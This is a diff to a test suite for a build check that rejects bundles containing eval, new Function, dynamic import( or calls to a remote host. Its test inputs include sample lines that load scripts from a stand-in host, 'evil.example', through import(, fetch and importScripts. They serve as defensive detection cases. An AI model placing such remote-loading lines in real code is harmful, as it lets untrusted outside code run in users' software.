@@ -42,7 +42,7 @@ describe('a build', () => {
   });
 
   test('is not held to account for another entry', async () => {
-    const files = { 'background.ts': 'console.log(1)', 'main.tsx': `${large} console.log(eval(large))` };
+    const files = { 'background.ts': 'console.log(1)', 'main.tsx': `${large} import(large)` };
     await expect(run(files, [worker])).resolves.toHaveLength(1);
   });
 
@@ -51,7 +51,7 @@ describe('a build', () => {
   });
 });
 
-describe('a build fails that holds', () => {
+describe('67: a dependency adds `eval`, a remote host or `import(` to the worker: the build fails for', () => {
   test.each([
     ['import(', "import('https://evil.example/x.js')"],
     ['import(', 'import (globalThis.name)'],
@@ -59,15 +59,22 @@ describe('a build fails that holds', () => {
     ['eval(', "console.log((0, eval)('1'), globalThis.eval ('1'))"],
     ['new Function', "console.log(new Function('return 1')())"],
     ['new Function', 'console.log(new Function)'],
+    ['the remote host https://evil.example/', "void fetch('https://evil.example/')"],
+    ['the remote host //evil.example/x.js', "importScripts('//evil.example/x.js')"],
   ])('%s, as in %s', async (name, code) => {
-    await expect(run({ 'background.ts': code })).rejects.toThrow(`The worker holds ${name} in`);
+    await expect(run({ 'background.ts': code })).rejects.toThrow(`holds ${name}`);
+  });
+
+  test('any but import( in a page, too', async () => {
+    const files = { 'background.ts': 'console.log(1)', 'main.tsx': "console.log(eval('1'))" };
+    await expect(run(files)).rejects.toThrow(/assets\/main-.*\.js holds eval\(/);
   });
 
   test('any of them in a part that it shares', async () => {
     const using = "import { run } from '/virtual/shared.ts'; run(1)";
     const shared = 'export const run = (a: unknown) => { console.log(new Function(String(a))) }';
     const files = { 'background.ts': using, 'main.tsx': `${using}; run(2)`, 'shared.ts': shared };
-    await expect(run(files)).rejects.toThrow('The worker holds new Function in assets/shared');
+    await expect(run(files)).rejects.toThrow(/assets\/shared.*\.js holds new Function/);
   });
 
   test.each([
